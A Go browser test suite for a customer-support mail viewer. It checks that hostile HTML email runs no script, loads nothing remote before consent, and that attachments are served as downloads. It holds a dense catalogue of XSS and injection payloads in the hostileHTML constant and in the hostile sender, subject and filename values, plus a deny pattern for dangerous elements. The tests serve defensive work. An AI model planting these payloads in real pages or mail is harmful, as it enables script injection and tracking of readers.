package test

import (
	"bytes"
	"fmt"
	"image"
	"image/png"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
)

// canary is a server elsewhere that a customer's mail would like to be called by: another host than the
// inbox's, and so another site. It answers everything with a picture.
type canary struct {
	url string

	mu   sync.Mutex
	hits []*http.Request
}

func newCanary(t *testing.T) *canary {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	var picture bytes.Buffer
	if err := png.Encode(&picture, image.NewGray(image.Rect(0, 0, 3, 3))); err != nil {
		t.Fatal(err)
	}
	c := &canary{url: "http://" + l.Addr().String()}
	server := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.hits = append(c.hits, r)
		c.mu.Unlock()
		w.Header().Set("Content-Type", "image/png")
		w.Write(picture.Bytes())
	})}}
	server.Start()
	t.Cleanup(server.Close)
	return c
}

// asked returns the paths that were asked for, each once, sorted.
func (c *canary) asked() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	var paths []string
	for _, r := range c.hits {
		paths = append(paths, r.URL.Path)
	}
	slices.Sort(paths)
	return slices.Compact(paths)
}

func (c *canary) requests() []*http.Request {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Clone(c.hits)
}

// hostileHTML tries to run, to load, to send, to move and to cover; C is the canary's address. A script
// that runs sets owned on every window that it reaches. Addresses under /want/ are those of pictures, which
// an agent may ask for.
const hostileHTML = `<!doctype html><html><head><base href="C/base/"><title>owned</title>
<meta http-equiv="refresh" content="0;url=C/refresh"><meta http-equiv="Content-Security-Policy" content="script-src *">
<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="C/dns"><link rel="preconnect" href="C">
<link rel="stylesheet" href="C/sheet.css"><link rel="preload" as="image" href="C/preload.png"><link rel="prefetch" href="C/prefetch"><link rel="icon" href="C/icon.png">
<style>@import url(C/import.css); @import "C/import2.css"; @font-face { font-family: x; src: url(C/font.woff) } p { font-family: x }
body { background: url("C/want/sheet.png") } p::before { content: url(C/want/before.png) } li { list-style-image: \75rl(C/escaped.png) }
html, body { position: fixed; inset: 0; z-index: 99 }</style>
<style onload="top.owned=window.owned=1"></style>
<script>top.owned = parent.owned = window.owned = document.title = "owned"; new Image().src = "C/script-ran"; fetch("C/fetch"); open("C/popup"); alert(1)</script>
<script src="C/script.js"></script><script type="module">import "C/module.js"; top.owned = 1</script></head>
<body onload="top.owned=1" onpageshow="top.owned=1" onresize="top.owned=1" background="C/want/body.png">
<p>The words that an agent reads.</p>
<img src="C/want/pixel.png" onload="top.owned=1" onerror="top.owned=1" alt="a picture">
<img src="x-nothing:1" onerror="top.owned=window.owned=1"><img src=x onerror=top.owned=1><img src="C/srcset-too.png" srcset="C/srcset.png 2x">
<picture><source srcset="C/source.png"><img src="C/want/picture.png"></picture>
<div style="background: url(C/want/style.png); width: 90px; height: 9px">a</div><div style="background-image: image-set('C/image-set.png' 1x)">b</div>
<div style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 9">cover</div>
<table background="C/want/table.png"><tr><td background="C/want/cell.png">c</td></tr></table>
<a class="bad" href="javascript:top.owned=window.owned=1">script link</a> <a href=" java&#9;script:top.owned=1">script link</a>
<a href="&#1;JaVaScRiPt:top.owned=1">script link</a> <a href="vbscript:x">script link</a> <a href="data:text/html,<script>opener.owned=1</script>">script link</a>
<a href="C/followed" ping="C/ping" target="_top" onclick="top.owned=1">a link</a> <map name="m"><area shape="default" href="javascript:top.owned=1"></map>
<form action="C/form" method="post"><input name="password" autofocus onfocus="top.owned=1"><input type="image" src="C/input.png">
<button formaction="javascript:top.owned=1">Log in again</button><select autofocus onfocus="top.owned=1"></select><textarea></textarea></form>
<iframe src="C/frame"></iframe><iframe srcdoc="<script>top.owned=1</script><img src=C/srcdoc.png>"></iframe><frameset><frame src="C/frameset"></frameset>
<object data="C/object"><img src="C/want/fallback.png"></object><embed src="C/embed"><applet code="C/applet"></applet>
<video src="C/video" poster="C/poster.png" autoplay onerror="top.owned=1"></video><audio src="C/audio" autoplay></audio><track src="C/track">
<svg onload="top.owned=1"><image href="C/svg.png"/><use href="C/use.svg#x"/><script>top.owned=1</script><a href="javascript:top.owned=1"><text>d</text></a>
<foreignObject><img src="C/foreign.png"></foreignObject><style>@import "C/svg.css"</style><animate onbegin="top.owned=1" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.owned=1&gt;"></math>
<svg></p><style><a id="</style><img src=1 onerror=top.owned=1>"></svg>
<noscript><p title="</noscript><img src=1 onerror=top.owned=1>"></noscript><template><img src="C/template.png"></template>
<details open ontoggle="top.owned=1"><summary>e</summary>f</details><marquee onstart="top.owned=1">g</marquee>
<xmp><img src="C/xmp.png" onerror="top.owned=1"></xmp><portal src="C/portal"></portal><dialog open>h</dialog><plaintext>
</body></html>`

// What a customer may call himself, his mail and his files.
const (
	hostileName    = `Mallory <script>top.owned=1</script>`
	hostileSubject = `"><img src=x onerror=top.owned=1><script>top.owned=1</script>`
	hostileFile    = `"><img src=x onerror=top.owned=1>.html`
)

func hostileMail(c *canary) string {
	return fmt.Sprintf(`From: "%s" <%s>
To: care@shop.test
Subject: %s
Date: Mon, 23 Nov 2026 10:00:00 -0300
Message-ID: <hostile@verified.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/html; charset=utf-8

%s
--b
Content-Type: text/html; charset=utf-8
Content-Disposition: attachment; filename="%s"

<script>opener.owned = top.owned = 1; location = "%s/attached"</script>
--b
Content-Type: image/svg+xml; name="picture.svg"
Content-Disposition: inline; filename="picture.svg"

<svg xmlns="http://www.w3.org/2000/svg"><script>top.owned = 1</script></svg>
--b--
`, hostileName, ana, hostileSubject, strings.ReplaceAll(hostileHTML, "C/", c.url+"/"), strings.ReplaceAll(hostileFile, `"`, `\"`), c.url)
}

const theFrame = `document.querySelector("details.sent iframe")`

// unharmed holds that nothing of the mail ran, in whatever window it could reach.
func unharmed(b *tab, where string) {
	b.t.Helper()
	if evaluate[bool](b, `[window, ...Array.from(frames)].some((w) => w.owned !== undefined || w.document.title == "owned")`) {
		b.t.Errorf("%s: a script of the mail ran", where)
	}
}

// quiet holds besides that nothing was asked for elsewhere.
func (c *canary) quiet(b *tab, where string) {
	b.t.Helper()
	unharmed(b, where)
	if paths := c.asked(); len(paths) > 0 {
		b.t.Errorf("%s: the canary was asked for %v", where, paths)
	}
	if urls := b.foreignRequests(); len(urls) > 0 {
		b.t.Errorf("%s: the page asked for %v", where, urls)
	}
}

// A customer's HTML runs nothing, loads nothing from elsewhere until the agent says so, and then
// pictures alone.
func TestBrowserHostileHTML(t *testing.T) {
	t.Parallel()
	p := newProduct(t, settings{})
	p.agent("eva@shop.test", "Eva", "--department", "care")
	c := newCanary(t)
	p.accept(ana, toCare, hostileMail(c))
	number := p.one().Number
	b := p.logIn("eva@shop.test")

	b.until(`document.querySelector("#p-` + number + ` .who")`)
	if got := evaluate[string](b, `document.querySelector("#p-`+number+` .who").textContent + "|" + document.querySelector("#p-`+number+` .subject").textContent`); got != hostileName+"|"+hostileSubject {
		t.Errorf("the list calls it %q", got)
	}
	b.click("#p-" + number + " a")
	b.openFrame()
	if got := evaluate[string](b, `document.querySelector("#head h1").textContent + "|" + document.title`); got != hostileSubject+"|"+hostileSubject+" · "+number+" · Recado" {
		t.Errorf("the page calls it %q", got)
	}
	c.quiet(b, "before consent")
	b.noFaults("before consent")
	frameIsBare(b)
	filesAreSaved(b)
	c.quiet(b, "having looked around")
	b.wallsStandAlone(c)

	b.goTo("/protocols/" + number)
	b.openFrame()
	b.noFaults("opened again")
	b.click("details.sent a[target^=h-], details.sent a[target]:not([target=_blank])")
	picturesAlone(b, c)
	framesStay(b, p, c)

	before := len(c.requests())
	b.goTo(evaluate[string](b, `new URL(`+theFrame+`.src).pathname`)) // on its own, as the link beside it opens it
	b.until(`document.body.textContent.includes("The words that an agent reads.")`)
	unharmed(b, "on its own")
	if n := len(c.requests()); n != before {
		t.Errorf("the mail on its own asked for %v", c.asked())
	}
	if p := evaluate[string](b, `location.pathname`); !strings.HasSuffix(p, "/html") {
		t.Errorf("the mail on its own went to %s", p)
	}
}

// openFrame unfolds the mail as it was sent, and waits until it is there.
func (b *tab) openFrame() {
	b.t.Helper()
	b.until(`document.readyState == "complete" && document.querySelector("details.sent iframe")`)
	if !evaluate[bool](b, `document.querySelector("details.sent").open`) {
		b.click("details.sent > summary")
	}
	b.run(theFrame + `.scrollIntoView()`)
	b.until(theFrame + `.contentDocument?.readyState == "complete" && ` + theFrame + `.contentDocument.body.textContent.includes("The words that an agent reads.")`)
}

// strange tells in the page whether an element e is one that no mail may put before an agent. A picture may stand in its address.
const strange = `(e.matches("script, iframe, frame, frameset, object, embed, applet, svg, math, link, form, input, button, select, textarea, video, audio, source, base[href], meta[http-equiv], portal, area")
	|| [...e.attributes].some((a) => a.name.startsWith("on") || a.name == "ping" || a.name == "srcset"
		|| !/^(title|alt|class)$/.test(a.name) && /^\W*(javascript|vbscript|data):/i.test(a.value) && !(e.matches("img") && a.name == "src" && a.value.startsWith("data:image/"))))`

// frameIsBare looks at the frame and at what is left in it of the mail.
func frameIsBare(b *tab) {
	b.t.Helper()
	sandbox := strings.Fields(evaluate[string](b, theFrame+`.getAttribute("sandbox") ?? "none"`))
	policy := evaluate[string](b, `(() => { const r = new XMLHttpRequest(); r.open("GET", `+theFrame+`.src, false); r.send(); return r.getResponseHeader("Content-Security-Policy"); })()`)
	for _, bad := range []string{"none", "allow-scripts", "allow-forms", "allow-top-navigation", "allow-top-navigation-by-user-activation", "allow-modals"} {
		if slices.Contains(sandbox, bad) || strings.Contains(policy, bad+" ") && bad != "none" {
			b.t.Errorf("the frame's sandbox: %q, policy: %s", sandbox, policy)
		}
	}
	for _, want := range []string{"default-src 'none'", "form-action 'none'", "base-uri 'none'", "sandbox", "img-src 'self' data:;"} {
		if !strings.Contains(policy, want) {
			b.t.Errorf("the frame's policy lacks %s: %s", want, policy)
		}
	}
	left := evaluate[[]string](b, `[...`+theFrame+`.contentDocument.querySelectorAll("*")].filter((e) => `+strange+`).map((e) => e.outerHTML)`)
	if len(left) > 0 {
		b.t.Errorf("left in the frame: %q", left)
	}
	b.run(theFrame + `.contentDocument.querySelectorAll("a:not([href^=http])").forEach((a) => a.click())`)
	if got, want := evaluate[string](b, theFrame+`.contentWindow.location.href`), evaluate[string](b, theFrame+`.src`); got != want {
		b.t.Errorf("the frame went from %s to %s", want, got)
	}
}

// filesAreSaved holds that no attachment is ever shown as a page of ours.
func filesAreSaved(b *tab) {
	b.t.Helper()
	files := evaluate[[]string](b, `[...document.querySelectorAll(".files a")].map((a) => {
		const r = new XMLHttpRequest(); r.open("GET", a.href, false); r.send();
		return [a.querySelector(".name").textContent, r.getResponseHeader("Content-Type"), r.getResponseHeader("Content-Disposition").split(";")[0],
			r.getResponseHeader("X-Content-Type-Options"), /(^|; )sandbox($|;)/.test(r.getResponseHeader("Content-Security-Policy"))].join("|"); })`)
	shown := strings.NewReplacer(`"`, "_", "<", "_", ">", "_").Replace(hostileFile) // as a folder of any system takes it
	want := []string{shown + "|application/octet-stream|attachment|nosniff|true", "picture.svg|application/octet-stream|attachment|nosniff|true"}
	if !slices.Equal(files, want) {
		b.t.Errorf("files: %q", files)
	}
}

// wallsStandAlone puts into the frame what the cleaning takes out: the sandbox and the policy stop it too.
func (b *tab) wallsStandAlone(c *canary) {
	b.t.Helper()
	b.takeFaults()
	b.run(strings.ReplaceAll(`(() => { const d = `+theFrame+`.contentDocument, s = d.createElement("script");
		s.textContent = "top.owned = 1"; d.body.append(s);
		d.body.insertAdjacentHTML("beforeend", '<img src="C/unclean.png" onload="top.owned=1" onerror="top.owned=1"><iframe src="C/unclean"></iframe><link rel="stylesheet" href="C/unclean.css"><form action="C/unclean"><button>x</button></form>');
		d.querySelector("form button").click(); })()`, "C/", c.url+"/"))
	// The browser tells of each that it stopped; only then is it sure that none will come.
	var told []string
	eventually(b.t, "four things are stopped", func() bool {
		told = append(told, b.takeFaults()...)
		all := strings.Join(told, "\n")
		return strings.Contains(all, "unclean.png") && strings.Contains(all, "unclean.css") && strings.Contains(all, "frame-src") && strings.Contains(all, "form")
	})
	unharmed(b, "without the cleaning")
	if paths := c.asked(); len(paths) > 0 {
		b.t.Errorf("without the cleaning, the canary was asked for %v", paths)
	}
}

// picturesAlone holds what is loaded after consent, and what the other side learns by it.
func picturesAlone(b *tab, c *canary) {
	b.t.Helper()
	b.until(`[...` + theFrame + `.contentDocument?.querySelectorAll("img[src*='/want/']") ?? []].some((i) => i.complete && i.naturalWidth == 3)`)
	eventually(b.t, "the pictures are fetched", func() bool {
		got := c.asked()
		return slices.Contains(got, "/want/pixel.png") && slices.Contains(got, "/want/style.png") && slices.Contains(got, "/want/cell.png")
	})
	unharmed(b, "after consent")
	for _, r := range c.requests() {
		if !strings.HasPrefix(r.URL.Path, "/want/") && r.URL.Path != "/srcset-too.png" {
			b.t.Errorf("after consent, asked for %s", r.URL.Path)
		}
		referrer := r.Header.Get("Referer")
		if referrer == b.base+"/" && (r.URL.Path == "/want/style.png" || r.URL.Path == "/want/sheet.png") {
			referrer = "" // Chromium gives it for what a style asks, whatever the policy; never more than the host
		}
		if r.Method != http.MethodGet || referrer != "" || r.Header.Get("Origin") != "" || len(r.Cookies()) > 0 {
			b.t.Errorf("the canary learns %s %s %v", r.Method, r.URL, r.Header)
		}
	}
	b.noFaults("after consent")
}

// framesStay holds that new mail does not load anew what the agent has before them.
func framesStay(b *tab, p *product, c *canary) {
	b.t.Helper()
	b.run(theFrame + `.untouched = true`)
	before := len(c.requests())
	p.accept(ana, toCare, mail(anaByName, "More", "more@verified.test", "", "Did you read it?"))
	b.until(`document.querySelector("#thread").textContent.includes("Did you read it?") && !document.querySelector(".entry.unread")`)
	if !evaluate[bool](b, theFrame+`.untouched && `+theFrame+`.contentDocument.querySelector("img").naturalWidth == 3`) || len(c.requests()) != before {
		b.t.Error("the frame was loaded anew")
	}
}
